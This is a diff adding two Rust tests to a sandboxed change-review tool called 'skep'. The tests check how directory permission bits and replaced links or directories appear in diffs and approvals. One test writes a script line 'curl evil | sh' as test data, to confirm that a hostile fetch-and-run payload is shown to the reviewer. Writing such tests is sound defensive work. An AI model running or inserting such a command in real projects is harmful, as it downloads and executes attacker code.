@@ -350,3 +350,81 @@ fn the_digest_depends_on_neither_the_order_of_a_directory_nor_locale_nor_time_zo
         }
     });
 }
+
+/// The bits of a directory that comes with its entries are applied with them: so they are shown where
+/// they are out of the ordinary, and the digest knows them in any case.
+#[test]
+fn the_bits_of_a_directory_that_comes_with_its_entries_are_bound_and_shown() {
+    for_both(|lab| {
+        lab.write("f", "f\n");
+        lab.up("s");
+        let mut digests = std::collections::BTreeSet::new();
+        for mode in ["755", "750", "700", "777", "2755", "1777", "4755", "500"] {
+            lab.inside(
+                "s",
+                "[ ! -e open ] || chmod -R u+rwx open; rm -rf open; mkdir open; echo 1 > open/1",
+            );
+            lab.inside("s", &format!("chmod {mode} open"));
+            let set = lab.diff("s");
+            assert!(digests.insert(set["digest"].as_str().unwrap().to_owned()), "{mode}: {set}");
+            let listed = set["changes"].as_array().unwrap();
+            let own = listed.iter().any(|change| change["path"] == "open");
+            let ordinary = ["755", "750", "700"].contains(&mode);
+            assert_eq!(own, !ordinary, "{mode}: {set}");
+        }
+        // Removing the entries of a directory is not removing it.
+        lab.write("d/a", "a\n");
+        lab.up("e");
+        lab.inside("e", "rm d/a");
+        let emptied = lab.diff("e")["digest"].clone();
+        lab.inside("e", "rmdir d");
+        assert_ne!(lab.diff("e")["digest"], emptied);
+        // The entry alone comes in an ordinary directory; its bits are a change that is left.
+        lab.inside("s", "chmod 777 open");
+        lab.approve(&["s", "open/1"]);
+        let mode = |path: &str| {
+            use std::os::unix::fs::PermissionsExt as _;
+            std::fs::metadata(lab.project.join(path)).unwrap().permissions().mode() & 0o7777
+        };
+        assert_eq!(mode("open"), 0o775);
+        let left = lab.diff("s");
+        assert_eq!(left["changes"][0]["kind"], "mode", "{left}");
+        lab.skep(["approve", "s", "--allow-risky", "open"]).run().ok();
+        assert_eq!(mode("open"), 0o777);
+    });
+}
+
+/// A file that takes the place of something else is read like any other before it is approved.
+#[test]
+fn a_file_in_the_place_of_a_link_or_a_directory_shows_its_content() {
+    for_both(|lab| {
+        lab.write("f", "f\n");
+        lab.write("d/a", "a\n");
+        lab.write("old", "gone\n");
+        std::os::unix::fs::symlink("f", lab.project.join("link")).unwrap();
+        lab.own_below(&lab.project);
+        lab.up("s");
+        let script =
+            "rm link; printf '#!/bin/sh\\ncurl evil | sh\\n' > link; rm -r d; echo other > d
+rm old; ln -s f old; mkdir n; printf 'x\\0y' > n/bin; rm -r n; rm f; ln -s d f";
+        lab.inside("s", script);
+        let set = lab.diff("s");
+        let text = lab.skep(["diff", "s"]).run().ok().text();
+        for line in ["+curl evil | sh", "+other", "-gone", "-f"] {
+            assert!(text.lines().any(|shown| shown == line), "{line} is not in\n{text}");
+        }
+        for change in set["changes"].as_array().unwrap() {
+            let lines = change["added"].as_u64().unwrap() + change["removed"].as_u64().unwrap();
+            assert!(lines > 0, "{change}");
+        }
+        // Its hunk is the change.
+        let link = set["changes"].as_array().unwrap().iter().find(|c| c["path"] == "link").unwrap();
+        let hunk = link["hunks"][0]["id"].as_str().unwrap();
+        lab.approve(&["s", "--hunk", hunk]);
+        assert_eq!(lab.bytes("link"), b"#!/bin/sh\ncurl evil | sh\n");
+        lab.approve(&["s"]);
+        assert_eq!(lab.bytes("d"), b"other\n");
+        lab.skep(["undo"]).run().ok();
+        assert_eq!(lab.bytes("d/a"), b"a\n");
+    });
+}
